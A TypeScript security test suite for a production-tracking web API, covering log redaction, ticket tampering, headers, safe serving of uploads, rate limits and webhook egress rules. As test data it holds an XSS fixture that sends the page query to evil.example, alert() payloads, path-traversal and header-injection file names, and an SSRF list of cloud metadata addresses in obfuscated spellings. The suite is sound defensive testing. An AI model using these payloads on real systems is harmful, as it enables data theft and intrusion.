import assert from 'node:assert/strict';
import { readdir, stat } from 'node:fs/promises';
import { createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { hashToken } from '../src/auth/key-tokens.js';
import { revokeKey } from '../src/auth/key-service.js';
import { issueTicket } from '../src/modules/media-ticket/ticket.js';
import { redactUrl } from '../src/http/logging.js';
import { mediaPathOf } from '../src/media/paths.js';
import { createEnv, DIALECTS, type TestEnv } from './support/env.js';
import { loadDemo } from './support/read.js';
import { jpeg, upload } from './support/write.js';
import { ALL_SCOPES, importRoundTrip, png, submit } from './support/round-trip.js';
import sharp from 'sharp';
import { buildApp } from '../src/app.js';
import { smallProduction } from './support/fixtures.js';
import { call, get } from './support/http.js';
import { Receiver, until } from './support/receiver.js';
import { freePort } from './support/server-process.js';

const modeOf = async (path: string) => (await stat(path)).mode & 0o777;

async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true });
  return entries.map((e) => join(e.parentPath, e.name));
}

for (const dialect of DIALECTS) {
  describe(`secrets never leak [${dialect}]`, () => {
    let env: TestEnv;
    const lines: string[] = [];
    let s: Record<string, number>;
    let token: string;
    let film: string;

    before(async () => {
      env = await createEnv(
        dialect,
        { PRODGRAPH_LOG_LEVEL: 'trace' },
        { logStream: { write: (line) => void lines.push(line) } },
      );
      s = (await loadDemo(env, 'episodic')).refs;
      await loadDemo(env, 'single');
      token = await env.mint({ production: 'nightfall', scopes: ['read', 'write', 'admin'] });
      film = await env.mint({ production: 'lanternfall', scopes: ['read'] });
    });
    after(() => env.close());

    const bearer = (t: string) => ({ authorization: `Bearer ${t}` });
    const ticketOf = async (t = token) =>
      (await env.app.inject({ url: '/api/v1/media-ticket', headers: bearer(t) })).json().ticket as string;
    const coatPath = async () => {
      const r = await env.app.inject({ url: `/api/v1/assets/${s['co-mara-coat']}`, headers: bearer(token) });
      return r.json().versions.find((v: { released: boolean }) => v.released).media_path as string;
    };

    it('no token, ticket or Authorization header reaches a log line, whatever the request', async () => {
      const path = await coatPath();
      const ticket = await ticketOf();
      const minted = await env.app.inject({
        method: 'POST',
        url: '/api/v1/admin/keys',
        headers: { ...bearer(token), 'content-type': 'application/json' },
        payload: { label: 'logged?' },
      });
      assert.equal(minted.statusCode, 201);
      const secrets = [token, film, ticket, minted.json().token as string];
      const requests = [
        { url: `${path}?t=${ticket}` },
        { url: `${path}?T=${ticket}&x=1` },
        { url: `${path}?%74=${encodeURIComponent(ticket)}` },
        { url: `${path}?t=${ticket}&t=${ticket}` },
        { url: `${path}?t=${ticket}`, headers: bearer(token) },
        { url: '/api/v1/production', headers: bearer(token) },
        { url: '/api/v1/production', headers: bearer(film) },
        { url: '/api/v1/production', headers: { authorization: `Bearer ${token}x` } },
        { url: '/api/v1/production', headers: { authorization: token } },
        { url: `/api/v1/production?t=${ticket}`, headers: bearer(token) },
        { url: `/nowhere?t=${ticket}`, headers: bearer(token) },
        { url: '/api/v1/production', headers: bearer(ticket) },
        {
          method: 'POST' as const,
          url: '/mcp',
          headers: { ...bearer(token), 'content-type': 'application/json', accept: 'application/json' },
          payload: { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'get_production' } },
        },
        {
          method: 'POST' as const,
          url: `/api/v1/assets/${s['co-mara-coat']}/notes`,
          headers: { ...bearer(token), 'content-type': 'application/json', 'idempotency-key': token },
          payload: { body: `a note quoting ${ticket}`.slice(0, 10) },
        },
      ];
      // a ticket under near-miss names and in the path: not a ticket to the server, still a secret
      const dots = ticket.replace(/\./g, '%2E');
      const nearMisses = [
        `${path}?t[]=${ticket}`,
        `${path}?t%5B%5D=${ticket}`,
        `${path}?t.x=${ticket}`,
        `${path}?t[0]=${encodeURIComponent(ticket)}`,
        `${path};t=${ticket}`,
        `${path}?ticket=${ticket}`,
        `${path}?x=${dots}`,
        `/media/${ticket}`,
        `/media/${dots}/x.jpg`,
        `/api/v1/assets/${ticket}`,
        `/api/v1/production?key=${token}`,
      ].map((url) => ({ url, headers: bearer(token) }));
      for (const r of [...requests, ...nearMisses]) await env.app.inject(r);
      // multipart: @fastify/multipart logs busboy's options, request headers included, at trace
      const landed = await upload(env.app, `/api/v1/assets/${s['co-mara-coat']}/versions`, {
        token,
        files: [{ name: 'v.jpg', bytes: await jpeg(3), type: 'image/jpeg' }],
        headers: { 'idempotency-key': token, 'x-custom': `Bearer ${film}` },
      });
      assert.equal(landed.status, 201);
      assert.ok(
        lines.some((l) => l.includes('busboyOptions') && l.includes('[redacted]')),
        'the multipart options were logged, redacted',
      );
      assert.ok(lines.length >= requests.length * 2, `every request logged (${lines.length} lines)`);
      for (const line of lines) {
        for (const secret of secrets) assert.ok(!line.includes(secret), `a secret in: ${line}`);
        // the signature part alone is the secret of a ticket
        assert.ok(!line.includes(ticket.split('.')[3]!), `a ticket signature in: ${line}`);
        assert.ok(!/Bearer (?!\[redacted\])/i.test(line), `an Authorization value in: ${line}`);
        assert.ok(!/pgk_[A-Za-z0-9]{8}_[A-Za-z0-9_-]{8}/.test(line), `a token in: ${line}`);
      }
      assert.ok(
        lines.some((l) => l.includes('t=[redacted]')),
        'the ticket parameter is logged as redacted',
      );
      console.log(`# log lines searched [${dialect}]: ${lines.length}`);
    });

    it('redactUrl censors every spelling of the ticket parameter and keeps the rest', () => {
      const sig = 'A'.repeat(43);
      assert.equal(redactUrl(`/m?t[]=1.2.3.${sig}&x=1`), '/m?t[]=[redacted]&x=1');
      assert.equal(redactUrl(`/m?t%5B%5D=zz`), '/m?t%5B%5D=[redacted]');
      assert.equal(redactUrl(`/m?t.x=zz`), '/m?t.x=[redacted]');
      assert.equal(redactUrl(`/m/a.jpg;t=1.2.3.${sig}`), '/m/a.jpg;t=[redacted]');
      assert.equal(redactUrl(`/m/1.2.3.${sig}/b`), '/m/[redacted]/b');
      assert.equal(redactUrl(`/m?y=1%2E2%2e3%2E${sig}`), '/m?y=[redacted]');
      assert.equal(redactUrl('/m?to=1&type=x'), '/m?to=1&type=x');
      assert.equal(redactUrl('/media/86/86b006ee-0c4c.jpg'), '/media/86/86b006ee-0c4c.jpg');
      assert.equal(redactUrl('/media/a.jpg?t=1.2.3.abc'), '/media/a.jpg?t=[redacted]');
      assert.equal(redactUrl('/m?x=1&T=zz&y=2'), '/m?x=1&T=[redacted]&y=2');
      assert.equal(redactUrl('/m?%74=zz'), '/m?%74=[redacted]');
      assert.equal(redactUrl('/m?t'), '/m?t=[redacted]');
      assert.equal(redactUrl('/m?%zz=1'), '/m?%zz=1');
      assert.equal(redactUrl('/plain'), '/plain');
    });

    it('tickets: every field flipped, expired by a second, another production, a revoked key, as a bearer: refused', async () => {
      const path = await coatPath();
      const ticket = await ticketOf();
      const parts = ticket.split('.');
      const flips: string[] = [];
      const swap = (c: string) => (/\d/.test(c) ? String((Number(c) + 1) % 10) : c === 'A' ? 'B' : 'A');
      for (let i = 0; i < parts.length; i++) {
        const p = parts[i]!;
        // the last and the first character of every field
        flips.push(parts.map((q, j) => (j === i ? p.slice(0, -1) + swap(p.at(-1)!) : q)).join('.'));
        flips.push(parts.map((q, j) => (j === i ? swap(p[0]!) + p.slice(1) : q)).join('.'));
      }
      const [pid, keyId] = parts.map(Number) as [number, number];
      // expires exactly now (issued 15 minutes and one second ago, rounded down)
      flips.push(
        issueTicket(env.app.ctx, { productionId: pid, keyId } as never, Date.now() - 15 * 60_000 - 1000)
          .ticket,
      );
      for (const t of flips) {
        const r = await env.app.inject({ url: `${path}?t=${encodeURIComponent(t)}` });
        assert.equal(r.statusCode, 401, t);
        assert.equal(r.json().code, 'unauthorized');
      }
      // another production's ticket does not open this production's file
      const other = await ticketOf(film);
      assert.equal((await env.app.inject({ url: `${path}?t=${other}` })).statusCode, 404);
      // a ticket is not a key
      const asBearer = await env.app.inject({ url: '/api/v1/production', headers: bearer(ticket) });
      assert.equal(asBearer.statusCode, 401);
      // a revoked key's tickets die with it
      const doomed = await env.mint({ production: 'nightfall', scopes: ['read'] });
      const doomedTicket = await ticketOf(doomed);
      assert.equal((await env.app.inject({ url: `${path}?t=${doomedTicket}` })).statusCode, 200);
      await revokeKey(env.handle.db, doomed);
      assert.equal((await env.app.inject({ url: `${path}?t=${doomedTicket}` })).statusCode, 401);
    });

    it('a token carries a checksum: a random or mistyped one costs no query', async () => {
      const good = token;
      const body = good.slice(0, -6);
      const wrong = [
        `${body}AAAAAA`,
        good.slice(0, 20) + (good[20] === 'a' ? 'b' : 'a') + good.slice(21),
        'pgk_AAAAAAAA_' + 'a'.repeat(49),
        'pgk_nothere_' + 'x'.repeat(43),
      ];
      for (const t of wrong) {
        env.queries.count = 0;
        const r = await env.app.inject({ url: '/api/v1/production', headers: bearer(t) });
        assert.equal(r.statusCode, 401, t);
        assert.equal(env.queries.count, 0, `no query for ${t}`);
      }
    });

    it('a key minted before checksums (legacy shape) keeps working; a random legacy-shaped string costs no query', async () => {
      const legacy = `pgk_LEGACYab_${'Z'.repeat(43)}`;
      const pid = (
        await env.handle.db
          .selectFrom('productions')
          .where('code', '=', 'nightfall')
          .select('id')
          .executeTakeFirstOrThrow()
      ).id;
      await env.handle.db
        .insertInto('api_keys')
        .values({
          production_id: pid,
          prefix: 'pgk_LEGACYab',
          hash: hashToken(legacy),
          label: 'minted before checksums',
          scopes: JSON.stringify(['read']),
          engagement_id: null,
          person_id: null,
          created_at: new Date().toISOString(),
        })
        .execute();
      const ok = await env.app.inject({ url: '/api/v1/production', headers: bearer(legacy) });
      assert.equal(ok.statusCode, 200);
      env.queries.count = 0;
      const random = `pgk_RANDOMxy_${'Q'.repeat(43)}`;
      const r = await env.app.inject({ url: '/api/v1/production', headers: bearer(random) });
      assert.equal(r.statusCode, 401);
      assert.equal(env.queries.count, 0, 'an unknown legacy prefix is refused from memory');
    });

    it('the database, its WAL and every stored media file and folder are the owner’s alone', async () => {
      const media = await filesUnder(env.config.mediaDir);
      assert.ok(media.length > 5, 'the demo stored files');
      assert.equal(await modeOf(env.config.mediaDir), 0o700);
      for (const f of media) {
        const st = await stat(f);
        assert.equal(st.mode & 0o777, st.isDirectory() ? 0o700 : 0o600, f);
      }
      if (env.config.db.dialect === 'sqlite') {
        const db = env.config.db.path;
        assert.equal(await modeOf(db), 0o600);
        assert.equal(await modeOf(`${db}-wal`), 0o600);
        assert.equal(await modeOf(`${db}-shm`), 0o600);
      }
    });
  });

  describe(`headers [${dialect}]`, () => {
    let env: TestEnv;
    let cors: TestEnv;
    let token: string;
    let s: Record<string, number>;

    before(async () => {
      env = await createEnv(dialect);
      s = (await loadDemo(env, 'episodic')).refs;
      token = await env.mint({ production: 'nightfall', scopes: ['read', 'write', 'admin'] });
      cors = await createEnv(dialect, {
        PRODGRAPH_CORS_ORIGINS: 'https://tools.example,http://localhost:3000',
      });
    });
    after(async () => {
      await env.close();
      await cors.close();
    });
    const bearer = { authorization: `Bearer ${'x'}` };

    it('nosniff on every response: success, 401, 404, 422, a missing route, /docs and health', async () => {
      const auth = { authorization: `Bearer ${token}` };
      for (const r of [
        { url: '/api/v1/production', headers: auth },
        { url: '/api/v1/production', headers: bearer },
        { url: '/api/v1/assets/999999', headers: auth },
        { url: '/api/v1/assets/abc', headers: auth },
        { url: '/nowhere' },
        { url: '/healthz' },
        { url: '/docs' },
        { url: '/api/v1/openapi.json' },
      ]) {
        const res = await env.app.inject(r);
        assert.equal(res.headers['x-content-type-options'], 'nosniff', r.url);
      }
    });

    it('media: Content-Disposition with a sanitised file name and Referrer-Policy no-referrer', async () => {
      const a = await env.app.inject({
        url: `/api/v1/assets/${s['co-mara-coat']}`,
        headers: { authorization: `Bearer ${token}` },
      });
      const path = a.json().versions.find((v: { released: boolean }) => v.released).media_path as string;
      const ticket = (
        await env.app.inject({ url: '/api/v1/media-ticket', headers: { authorization: `Bearer ${token}` } })
      ).json().ticket;
      const r = await env.app.inject({ url: `${path}?t=${ticket}` });
      assert.equal(r.statusCode, 200);
      assert.equal(r.headers['referrer-policy'], 'no-referrer');
      assert.match(String(r.headers['content-disposition']), /^inline; filename="[^"/\\]+\.(jpg|png|webp)"/);
      const { downloadName } = await import('../src/http/media-response.js');
      assert.equal(downloadName('../../etc/passwd', '1/ab/x.jpg'), '_.._etc_passwd.jpg');
      assert.equal(downloadName('Coat "v1"\r\nSet-Cookie: a', '1/ab/x.png'), 'Coat _v1_Set-Cookie_ a.png');
      assert.equal(downloadName('...', '1/ab/x.jpg'), 'media.jpg');
      assert.equal(downloadName('Mara Quinn v1.jpg', '1/ab/x.jpg'), 'Mara Quinn v1.jpg');
    });

    it('Cache-Control: no-store on every answer that carries a token or ticket', async () => {
      const auth = { authorization: `Bearer ${token}` };
      const ticket = await env.app.inject({ url: '/api/v1/media-ticket', headers: auth });
      assert.equal(ticket.headers['cache-control'], 'no-store');
      const minted = await env.app.inject({
        method: 'POST',
        url: '/api/v1/admin/keys',
        headers: { ...auth, 'content-type': 'application/json' },
        payload: { label: 'cached?' },
      });
      assert.equal(minted.statusCode, 201);
      assert.equal(minted.headers['cache-control'], 'no-store');
    });

    it('no CORS unless configured; then only the allow-listed origins', async () => {
      const origin = 'https://tools.example';
      const plain = await env.app.inject({ url: '/healthz', headers: { origin } });
      assert.equal(plain.headers['access-control-allow-origin'], undefined);
      const pre = await env.app.inject({
        method: 'OPTIONS',
        url: '/api/v1/production',
        headers: {
          origin,
          'access-control-request-method': 'GET',
          'access-control-request-headers': 'authorization',
        },
      });
      assert.equal(pre.headers['access-control-allow-origin'], undefined);

      const allowed = await cors.app.inject({ url: '/healthz', headers: { origin } });
      assert.equal(allowed.headers['access-control-allow-origin'], origin);
      const preflight = await cors.app.inject({
        method: 'OPTIONS',
        url: '/api/v1/production',
        headers: {
          origin,
          'access-control-request-method': 'GET',
          'access-control-request-headers': 'authorization',
        },
      });
      assert.equal(preflight.statusCode, 204);
      assert.equal(preflight.headers['access-control-allow-origin'], origin);
      assert.match(String(preflight.headers['access-control-allow-headers']), /Authorization/);
      const stranger = await cors.app.inject({
        url: '/healthz',
        headers: { origin: 'https://evil.example' },
      });
      assert.equal(stranger.headers['access-control-allow-origin'], undefined);
    });

    it('/docs carries a content security policy and still renders (its page and scripts load)', async () => {
      const page = await env.app.inject({ url: '/docs/' });
      const html =
        page.statusCode === 302 ? await env.app.inject({ url: String(page.headers.location) }) : page;
      assert.equal(html.statusCode, 200);
      const csp = String(html.headers['content-security-policy']);
      assert.match(csp, /default-src 'self'/);
      assert.match(csp, /script-src 'self'/);
      for (const src of [...html.body.matchAll(/(?:src|href)="\.?\/?([^"]+\.(?:js|css))"/g)].map(
        (m) => m[1]!,
      )) {
        const asset = await env.app.inject({ url: `/docs/${src.replace(/^docs\//, '')}` });
        assert.equal(asset.statusCode, 200, src);
      }
      // inline scripts would be blocked by the policy: the page must not rely on one without its hash
      const inline = [...html.body.matchAll(/<script(?![^>]*src=)[^>]*>([\s\S]*?)<\/script>/g)].filter((m) =>
        m[1]!.trim(),
      );
      for (const m of inline) {
        const { createHash } = await import('node:crypto');
        const hash = createHash('sha256').update(m[1]!).digest('base64');
        assert.ok(csp.includes(`sha256-${hash}`), 'every inline script is allowed by its hash');
      }
    });
  });

  describe(`uploaded files are served so they cannot run [${dialect}]`, () => {
    let env: TestEnv;
    let vendor: string;
    let wide: string;
    const ids: Record<string, number> = {};

    before(async () => {
      env = await createEnv(dialect);
      const refs = await importRoundTrip(env, 'film');
      vendor = await env.mint({ production: 'film', engagement: 'eng-pix', scopes: ALL_SCOPES });
      wide = await env.mint({ production: 'film', scopes: ['read'] });
      const files = {
        xhtml:
          '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body>' +
          '<script>fetch("https://evil.example/?" + location.search)</script></body></html>',
        svg: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        html: '<!doctype html><html><script>alert(1)</script></html>',
      };
      for (const [name, content] of Object.entries(files)) {
        const r = await submit(env, vendor, refs['dl-plates']!, [
          { name: 'files', filename: `a.${name}`, content: Buffer.from(content), contentType: 'text/html' },
        ]);
        assert.equal(r.statusCode, 200, r.body);
        ids[name] = JSON.parse(r.body).media[0].id;
      }
      const r = await submit(env, vendor, refs['dl-plates']!, [
        { name: 'files', filename: 'comp.png', content: await png('#f0f'), contentType: 'image/png' },
      ]);
      ids.png = JSON.parse(r.body).media[0].id;
    });
    after(() => env.close());

    const content = (id: number, key = vendor) =>
      env.app.inject({ url: `/api/v1/media/${id}/content`, headers: { authorization: `Bearer ${key}` } });

    it('only images, video and PDF inline; XHTML, SVG and HTML as attachments; every media answer sandboxed', async () => {
      for (const name of ['xhtml', 'svg', 'html']) {
        for (const key of [vendor, wide]) {
          const r = await content(ids[name]!, key);
          assert.equal(r.statusCode, 200, name);
          assert.match(String(r.headers['content-disposition']), /^attachment; filename="a\./, name);
          assert.match(String(r.headers['content-security-policy']), /sandbox/, name);
          assert.match(String(r.headers['content-security-policy']), /default-src 'none'/, name);
          assert.equal(r.headers['x-content-type-options'], 'nosniff');
        }
      }
      const image = await content(ids.png!);
      assert.match(String(image.headers['content-disposition']), /^inline; /);
      assert.match(String(image.headers['content-security-policy']), /sandbox/);
      // refusals from the media routes carry it too
      for (const r of [await content(999_999), await env.app.inject({ url: '/media/x/y.jpg?t=nope' })]) {
        assert.ok(r.statusCode >= 400);
        assert.match(String(r.headers['content-security-policy']), /sandbox/);
      }
      // through the ticket route as well
      const meta = await env.app.inject({
        url: `/api/v1/media/${ids.xhtml}`,
        headers: { authorization: `Bearer ${wide}` },
      });
      assert.equal(meta.statusCode, 200);
      const ticket = (
        await env.app.inject({ url: '/api/v1/media-ticket', headers: { authorization: `Bearer ${wide}` } })
      ).json().ticket as string;
      const stored = await env.handle.db
        .selectFrom('media')
        .where('id', '=', ids.xhtml!)
        .select('storage_key')
        .executeTakeFirstOrThrow();
      const paths = [mediaPathOf(stored.storage_key)!];
      assert.ok(paths.length > 0, 'the turnover shows the submitted file');
      for (const path of paths) {
        const r = await env.app.inject({ url: `${path}?t=${ticket}` });
        assert.equal(r.statusCode, 200, path);
        assert.match(String(r.headers['content-disposition']), /^attachment; /);
        assert.match(String(r.headers['content-security-policy']), /sandbox/);
      }
    });

    it('a vendor asking for media out of reach and for media that does not exist: the same statements, the same answer', async () => {
      const rows = await env.handle.db
        .selectFrom('media')
        .select(['id', 'work_item_id', 'uploader_engagement_id'])
        .orderBy('id')
        .execute();
      const ask = async (id: number) => {
        env.queries.count = 0;
        env.queries.sql.length = 0;
        const r = await env.app.inject({
          url: `/api/v1/media/${id}`,
          headers: { authorization: `Bearer ${vendor}` },
        });
        return { status: r.statusCode, body: r.body, headers: r.headers, sql: [...env.queries.sql] };
      };
      const missing = await ask(Math.max(...rows.map((r) => r.id)) + 1000);
      assert.equal(missing.status, 404);
      let hidden = 0;
      for (const row of rows) {
        const r = await ask(row.id);
        if (r.status === 200) continue;
        hidden++;
        assert.equal(r.body, missing.body, `media ${row.id}`);
        assert.deepEqual(r.sql, missing.sql, `media ${row.id}: other statements than for a missing id`);
        assert.deepEqual(
          Object.keys(r.headers)
            .filter((h) => h !== 'date')
            .sort(),
          Object.keys(missing.headers)
            .filter((h) => h !== 'date')
            .sort(),
        );
      }
      assert.ok(hidden >= 1, 'no media out of reach');
    });

    it('servedInline: raster images, video and PDF only', async () => {
      const { servedInline } = await import('../src/http/media-response.js');
      for (const t of [
        'image/jpeg',
        'image/png',
        'video/mp4',
        'video/quicktime',
        'application/pdf',
        'IMAGE/PNG',
      ])
        assert.ok(servedInline(t), t);
      for (const t of [
        'image/svg+xml',
        'application/xml',
        'application/xhtml+xml',
        'text/html',
        'text/plain',
        'application/octet-stream',
        'audio/mpeg',
      ])
        assert.ok(!servedInline(t), t);
    });
  });

  describe(`ticketed media cannot be locked out by bad tickets [${dialect}]`, () => {
    let env: TestEnv;
    let proxied: TestEnv;
    let path: string;
    let reader: string;
    let other: string;
    const lines: string[] = [];
    const proxiedLines: string[] = [];

    before(async () => {
      const limits = { PRODGRAPH_RATE_LIMIT: '5', PRODGRAPH_RATE_LIMIT_WINDOW_MS: '60000' };
      env = await createEnv(dialect, limits, { logStream: { write: (l) => void lines.push(l) } });
      await loadDemo(env, 'single');
      reader = await env.mint({ production: 'lanternfall', scopes: ['read'] });
      other = await env.mint({ production: 'lanternfall', scopes: ['read'] });
      const media = await env.handle.db
        .selectFrom('media')
        .where('content_type', 'like', 'image/%')
        .select('storage_key')
        .executeTakeFirstOrThrow();
      path = mediaPathOf(media.storage_key)!;
      proxied = await createEnv(
        dialect,
        { ...limits, PRODGRAPH_TRUST_PROXY: '127.0.0.1' },
        { logStream: { write: (l) => void proxiedLines.push(l) } },
      );
    });
    after(async () => {
      await env.close();
      await proxied.close();
    });

    const ticketOf = async (key: string) =>
      (
        await env.app.inject({ url: '/api/v1/media-ticket', headers: { authorization: `Bearer ${key}` } })
      ).json().ticket as string;

    it('bad tickets are never counted; good ones count per their key, apart from its API allowance', async () => {
      const good = await ticketOf(reader);
      const [pid, kid, exp, sig] = good.split('.');
      const flipped = `${pid}.${kid}.${exp}.${sig!.startsWith('A') ? 'B' : 'A'}${sig!.slice(1)}`;
      // far more refusals than the limit, from the one address every request here comes from
      for (const t of ['nope', '', flipped, `1.2.3.${'A'.repeat(43)}`].flatMap((t) => Array(10).fill(t))) {
        const r = await env.app.inject({ url: `${path}?t=${encodeURIComponent(t)}` });
        assert.equal(r.statusCode, 401);
        assert.equal(r.headers['ratelimit-limit'], undefined, 'a refusal is not counted');
      }
      for (let i = 0; i < 5; i++) {
        const r = await env.app.inject({ url: `${path}?t=${good}` });
        assert.equal(r.statusCode, 200, `fetch ${i + 1}: ${r.body.slice(0, 200)}`);
        assert.equal(r.headers['ratelimit-remaining'], String(4 - i));
      }
      const over = await env.app.inject({ url: `${path}?t=${good}` });
      assert.equal(over.statusCode, 429);
      assert.equal(over.json().code, 'rate_limited');
      // another key's ticket from the same address has its own window
      assert.equal((await env.app.inject({ url: `${path}?t=${await ticketOf(other)}` })).statusCode, 200);
      // and the key's API allowance was not spent by its ticket (the mint above was its first call)
      const api = await env.app.inject({
        url: '/api/v1/production',
        headers: { authorization: `Bearer ${reader}` },
      });
      assert.equal(api.statusCode, 200);
      assert.equal(api.headers['ratelimit-remaining'], '3');
    });

    it('behind a trusted proxy (PRODGRAPH_TRUST_PROXY) the client is the forwarded address, not the proxy', async () => {
      await proxied.app.inject({ url: '/api/v1/production', headers: { 'x-forwarded-for': '203.0.113.7' } });
      await env.app.inject({ url: '/api/v1/production', headers: { 'x-forwarded-for': '198.51.100.9' } });
      const addresses = proxiedLines.map((l) => JSON.parse(l).req?.remoteAddress).filter(Boolean);
      assert.ok(addresses.includes('203.0.113.7'), addresses.join());
      // without it, a forwarded-for header is not believed
      const direct = lines.map((l) => JSON.parse(l).req?.remoteAddress).filter(Boolean);
      assert.ok(direct.length > 0 && !direct.includes('198.51.100.9'), direct.join());
      const { loadConfig, ConfigError } = await import('../src/config.js');
      assert.deepEqual(loadConfig({}, { PRODGRAPH_TRUST_PROXY: 'loopback, 10.0.0.0/8' }).trustProxy, [
        'loopback',
        '10.0.0.0/8',
      ]);
      assert.equal(loadConfig({}, {}).trustProxy, false);
      assert.throws(() => loadConfig({}, { PRODGRAPH_TRUST_PROXY: '10.0.0.0/99' }), ConfigError);
    });
  });

  describe(`webhooks reach only what they may [${dialect}]`, () => {
    const base = {
      // generous: a loaded machine must not turn a slow local answer into a failure
      PRODGRAPH_WEBHOOK_TIMEOUT_MS: '5000',
      PRODGRAPH_WEBHOOK_RETRY_BASE_MS: '50',
      PRODGRAPH_WEBHOOK_RETRY_MAX_MS: '400',
    };
    let closed: string;
    let rx: Receiver;

    before(async () => {
      rx = await new Receiver().start();
      // a port nothing listens on
      const port = await freePort();
      closed = `http://127.0.0.1:${port}/hook`;
    });
    after(() => rx.close());

    /** An env whose app also runs the delivery worker, with a production, an admin and a writer. */
    async function hooked(extra: Record<string, string>) {
      const env = await createEnv(dialect, { ...base, ...extra });
      await env.import(smallProduction('hooks'));
      const worker = await buildApp({
        config: env.config,
        database: env.handle,
        store: env.store,
        logger: false,
        webhooks: true,
      });
      await worker.ready();
      const admin = await env.mint({ production: 'hooks', scopes: ['admin'] });
      const writer = await env.mint({ production: 'hooks' });
      const subscribe = (url: string) =>
        call(env.app, 'POST', '/api/v1/admin/webhooks', { token: admin, body: { url } });
      const write = () =>
        call(env.app, 'POST', '/api/v1/assets', { token: writer, body: { label: 'Hook me' } });
      const deliveries = async (id: number) =>
        (await get(env.app, `/api/v1/admin/webhooks/${id}/deliveries`, admin)).body as Array<{
          at: string;
          delivered: boolean;
          error: string | null;
          status_code: number | null;
          duration_ms: number;
        }>;
      return {
        env,
        subscribe,
        write,
        deliveries,
        close: async () => {
          await worker.close();
          await env.close();
        },
      };
    }

    it('link-local, metadata and reserved addresses are refused when subscribed, whatever the allow-list', async () => {
      const h = await hooked({ PRODGRAPH_WEBHOOK_ALLOW: '127.0.0.1/32,169.254.0.0/16' });
      try {
        for (const url of [
          'http://169.254.169.254/latest/meta-data/',
          'http://[fd00:ec2::254]/',
          'http://[::ffff:169.254.169.254]/',
          'http://[fe80::1]:8080/',
          'http://0.0.0.0:5432/',
          'http://100.100.100.200/',
          'http://224.0.0.1/',
          // the metadata address in other spellings: decimal, octal, and IPv6 forms that carry it
          'http://2852039166/',
          'http://0251.0376.0251.0376/',
          'http://[::169.254.169.254]/',
          'http://[::ffff:0:169.254.169.254]/',
          'http://[64:ff9b::169.254.169.254]/',
          'http://[2002:a9fe:a9fe::]/',
        ]) {
          const r = await h.subscribe(url);
          assert.equal(r.status, 422, `${url}: ${r.text}`);
          assert.match(r.body.detail, /^url: .*never reach/);
        }
      } finally {
        await h.close();
      }
    });

    it('loopback and private addresses are not reached unless allowed, by literal or by name, and the log says nothing of ports', async () => {
      const h = await hooked({});
      try {
        const urls = [rx.url, rx.url.replace('127.0.0.1', 'localhost'), closed, 'http://10.255.255.1:22/'];
        const ids: number[] = [];
        for (const url of urls) {
          const r = await h.subscribe(url);
          assert.equal(r.status, 201, r.text);
          ids.push(r.body.id);
        }
        await h.write();
        await until(
          'every subscription tried',
          async () => {
            for (const id of ids) if ((await h.deliveries(id)).length === 0) return false;
            return true;
          },
          30_000,
        );
        const errors = new Set<string>();
        for (const id of ids) {
          for (const d of await h.deliveries(id)) {
            assert.equal(d.delivered, false);
            assert.equal(d.status_code, null);
            errors.add(String(d.error));
          }
        }
        // an open port, a closed one and a host name alike: one wording, naming the setting
        assert.deepEqual([...errors].length, 1, [...errors].join(' | '));
        assert.match([...errors][0]!, /PRODGRAPH_WEBHOOK_ALLOW/);
        assert.equal(rx.got.length, 0, 'nothing reached the loopback receiver');
      } finally {
        await h.close();
      }
    });

    it('allowed ranges are reached; a refused connection and a silent receiver read the same: the timeout, recorded once it passed', async () => {
      // a port that takes the connection and never answers
      const held = new Set<Socket>();
      const quiet = createNetServer((socket) => void held.add(socket));
      await new Promise<void>((done) => quiet.listen(0, '127.0.0.1', done));
      const silent = `http://127.0.0.1:${(quiet.address() as AddressInfo).port}/hook`;
      const h = await hooked({ PRODGRAPH_WEBHOOK_ALLOW: '127.0.0.0/8' });
      try {
        const open = (await h.subscribe(rx.url)).body.id as number;
        const shut = (await h.subscribe(closed)).body.id as number;
        const mute = (await h.subscribe(silent)).body.id as number;
        const written = Date.now();
        await h.write();
        await until(
          'all three tried',
          async () =>
            (await h.deliveries(open)).length > 0 &&
            (await h.deliveries(shut)).length > 0 &&
            (await h.deliveries(mute)).length > 0,
          30_000,
        );
        assert.equal((await h.deliveries(open))[0]!.status_code, 200);
        const refused = (await h.deliveries(shut))[0]!;
        const quietOne = (await h.deliveries(mute))[0]!;
        assert.ok(held.size > 0, 'the silent receiver was connected to');
        for (const failed of [refused, quietOne]) {
          assert.equal(failed.delivered, false);
          assert.equal(failed.status_code, null);
          assert.match(String(failed.error), /^no answer within 5000 ms/);
          assert.doesNotMatch(String(failed.error), /ECONN|refused|EHOST|ENOTFOUND/i);
          // the timeout, not the millisecond a refusal takes
          assert.equal(failed.duration_ms, 5000);
          // and not recorded before the timeout passed (which would date the refusal)
          assert.ok(
            Date.parse(failed.at) - written >= 5000,
            `recorded ${Date.parse(failed.at) - written} ms after`,
          );
        }
        assert.equal(refused.error, quietOne.error);
      } finally {
        await h.close();
        for (const socket of held) socket.destroy();
        await new Promise((done) => quiet.close(done));
      }
    });

    it('eleven subscriptions deliver without a MaxListenersExceededWarning', async () => {
      const warnings: string[] = [];
      const onWarning = (w: Error) => void warnings.push(`${w.name}: ${w.message}`);
      process.on('warning', onWarning);
      const h = await hooked({ PRODGRAPH_WEBHOOK_ALLOW: '127.0.0.1/32' });
      try {
        const before = rx.got.length;
        for (let i = 0; i < 11; i++) assert.equal((await h.subscribe(`${rx.url}?n=${i}`)).status, 201);
        // every loop waits for changes at once, then delivers
        await new Promise((r) => setTimeout(r, 1500));
        await h.write();
        await until('eleven deliveries', () => rx.got.length - before >= 11, 30_000);
        await new Promise((r) => setImmediate(r));
        assert.deepEqual(
          warnings.filter((w) => w.startsWith('MaxListenersExceededWarning')),
          [],
        );
      } finally {
        process.off('warning', onWarning);
        await h.close();
      }
    });

    it('the egress judge: never, internal unless allowed, public', async () => {
      const { Egress } = await import('../src/modules/webhooks/egress.js');
      const { parseCidrList } = await import('../src/config-network.js');
      const none = new Egress([]);
      const some = new Egress(parseCidrList('x', '10.1.0.0/16,::1/128,169.254.0.0/16').ranges);
      const cases: Array<[string, string, string]> = [
        ['169.254.169.254', 'never', 'never'],
        ['::ffff:169.254.169.254', 'never', 'never'],
